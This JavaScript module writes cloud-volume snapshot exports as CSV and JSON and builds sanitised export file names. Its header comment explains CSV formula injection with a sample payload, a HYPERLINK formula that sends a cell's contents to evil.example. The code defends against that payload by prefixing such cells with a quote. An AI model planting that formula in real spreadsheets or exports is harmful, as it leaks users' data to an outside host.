// The export's file formats, written a batch at a time: CSV (RFC 4180, UTF-8
// with a byte-order mark so that spreadsheet programs read Chinese names
// right) and JSON (an array of the package's Snapshot objects). Pure: no DOM.
//
// A CSV writer this small is kept here rather than taken from a library: the
// format is four rules (comma-separated, CRLF-terminated records, fields with
// a comma, quote, CR or LF in double quotes, quotes doubled), and the tests
// read the files back with an independent parser (Python's csv module).
//
// CSV injection: a spreadsheet program runs a cell that begins with `=`,
// `+`, `-` or `@` (or TAB or CR before one) as a formula, such as
// `=HYPERLINK("https://evil.example/?"&A1, "details")`. As OWASP's CSV
// Injection guidance says, such a cell is written with a `'` before it
// (then quoted by the rules above when it must be), so it is shown as text;
// the `'` is in the file, and a reader that is not a spreadsheet sees it.
// The rule is the package's (`neutralizeFormula` of `evs-snapshots/rules`,
// lib/rules.js), the one the command's `list --output csv` follows.
//
// Languages: the files are data for scripts, so they are the same whatever
// language the page speaks: the CSV's column names (CSV_COLUMNS), the JSON's
// keys, every value (statuses as the service sends them, `available`, not
// 可用; numbers and times unformatted) and the file name (`all`, `status-…`)
// never go through t(). Only what the page tells the user about an export
// (the status line: "Exported 264 snapshots to …", a cancelled export) is
// translated; those messages are `export.…` in www/messages/overview.js,
// shown by overview.js.

import { UNSAFE_CHARS, neutralizeFormula } from 'evs-snapshots/rules';

export const CSV_COLUMNS = ['id', 'name', 'description', 'status', 'size_gb', 'volume_id', 'created_at', 'updated_at', 'metadata'];

const BOM = '\uFEFF';

/** One field: `null`/`undefined` → empty; a `'` before a formula-like value; quoted when it has to be. */
export function csvField(value) {
  const s = neutralizeFormula(value === null || value === undefined ? '' : String(value));
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

function csvRecord(values) {
  return `${values.map(csvField).join(',')}\r\n`;
}

/**
 * A format: `head` (the file's start), `rows(snapshots, first)` (the text of
 * a batch; `first` is true for the first batch), `tail` (the file's end).
 */
export const FORMATS = {
  csv: {
    ext: 'csv',
    type: 'text/csv;charset=utf-8',
    head: BOM + csvRecord(CSV_COLUMNS),
    rows(snapshots) {
      let out = '';
      for (const s of snapshots) {
        out += csvRecord([
          s.id,
          s.name,
          s.description,
          s.status,
          s.size,
          s.volumeId,
          s.createdAt,
          s.updatedAt,
          JSON.stringify(s.metadata ?? {}),
        ]);
      }
      return out;
    },
    tail: '',
  },
  json: {
    ext: 'json',
    type: 'application/json;charset=utf-8',
    head: '[',
    rows(snapshots, first) {
      let out = '';
      for (let i = 0; i < snapshots.length; i++) {
        out += `${first && i === 0 ? '\n' : ',\n'}${JSON.stringify(snapshots[i])}`;
      }
      return out;
    },
    tail: '\n]\n',
  },
};

/**
 * What a file name must not hold: path separators, the characters Windows
 * reserves, white space, and the characters of service text a screen must
 * not get raw (UNSAFE_CHARS: controls, bidirectional marks and controls, line
 * separators), each run of them one `-`.
 */
const NOT_IN_NAME = new RegExp(`(?:[\\\\/:*?"<>|\\s]|${UNSAFE_CHARS.source})+`, 'g');

/** A piece of a file name: none of NOT_IN_NAME, at most `max` characters. */
function namePart(text, max = 48) {
  const clean = String(text)
    .replace(NOT_IN_NAME, '-')
    .replace(/^[-.]+|[-.]+$/g, '');
  return [...clean].slice(0, max).join('') || '_';
}

/**
 * `evs-snapshots_{project}_{filters}_{UTC time}.{ext}`, e.g.
 * `evs-snapshots_0c2eba2c…_status-available_name-快照_20261130T101500Z.csv`;
 * `all` when there is no filter.
 */
export function exportFileName({ projectId, status, name, volumeId }, ext, date = new Date()) {
  const filters = [];
  if (status) filters.push(`status-${namePart(status)}`);
  if (name) filters.push(`name-${namePart(name)}`);
  if (volumeId) filters.push(`volume-${namePart(volumeId)}`);
  const stamp = date.toISOString().replace(/\.\d+Z$/, 'Z').replace(/[-:]/g, '');
  return `evs-snapshots_${namePart(projectId, 64)}_${filters.join('_') || 'all'}_${stamp}.${ext}`;
}
